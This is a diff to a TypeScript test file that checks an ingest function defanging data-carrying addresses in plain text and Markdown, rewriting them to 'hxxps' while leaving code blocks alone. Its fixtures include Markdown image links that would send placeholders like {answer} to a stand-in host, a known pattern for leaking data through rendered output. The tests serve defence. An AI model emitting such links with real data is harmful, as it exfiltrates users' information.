@@ -1,7 +1,10 @@
 /** Addresses that stand in a text: the ones that wait for data are made inert and told, every other comes back byte for byte. */
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import { extractMarkdown } from '../../../ingest/formats/markdown.ts';
 import { inertRuns } from '../../../ingest/formats/targets.ts';
+import { extractText } from '../../../ingest/formats/text.ts';
+import { seenIn } from './text-like.ts';
 
 const shown = (text: string) =>
   inertRuns(text)
@@ -9,6 +12,12 @@ const shown = (text: string) =>
     .join('');
 
 describe('an address in a text', () => {
+  it('is looked at in plain text and in the text of Markdown, and not in code', async () => {
+    const file = 'see \\![a](<https://x.example/?d={answer}>)\n\n    ![a](https://x.example/?d={answer})\n';
+    expect((await seenIn(extractText, file)).texts.join('\n')).not.toContain('https://x.example');
+    expect((await seenIn(extractMarkdown, file)).texts.at(-1)).toBe('![a](https://x.example/?d={answer})');
+  });
+
   it.each([
     ['a picture', '![a](https://x.example/p?d={answer})', '![a](hxxps://x.example/p?d={answer})'],
     ['a picture by its path', '![a](http://x.example/{data}/p.png)', '![a](hxxp://x.example/{data}/p.png)'],
